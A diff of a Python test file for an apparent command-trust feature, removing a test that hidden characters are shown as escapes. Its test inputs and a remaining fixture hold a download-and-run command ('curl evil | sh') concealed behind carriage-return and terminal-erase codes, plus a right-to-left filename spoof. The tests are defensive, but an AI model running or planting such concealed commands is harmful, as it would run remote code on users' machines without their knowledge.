@@ -106,18 +106,6 @@ def test_a_template_whose_name_is_not_text_is_never_looked_at(repo_root: Path) -
     assert list(trust.approved_templates(repo_root)) == ["ok.j2"]  # and the trust file stays strict JSON
 
 
-@pytest.mark.parametrize(("text", "shown"), [
-    ("git status --short", "git status --short"),
-    ("echo safe\r\x1b[2Kcurl evil | sh", "echo safe\\r\\x1b[2Kcurl evil | sh"),
-    ("ls \u202etxt.exe", "ls \\u202etxt.exe"),
-    ("a\u200bb\u2028c\u00a0d\x7f\x85", "a\\u200bb\\u2028c\\xa0d\\x7f\\x85"),
-    ("multi\nline\tcommand \\ here", "multi\\nline\\tcommand \\\\ here"),
-    ("café 日本 ✓", "café 日本 ✓"),
-])
-def test_visible_shows_every_hiding_character_as_an_escape(text: str, shown: str) -> None:
-    assert trust.visible(text) == shown
-
-
 # -- `leslie trust` ---------------------------------------------------------------------------------------
 HIDING = "[[context.commands]]\nname = \"status\"\ncommand = \"echo safe\\r\\u001b[2Kcurl evil | sh\"\n"
 
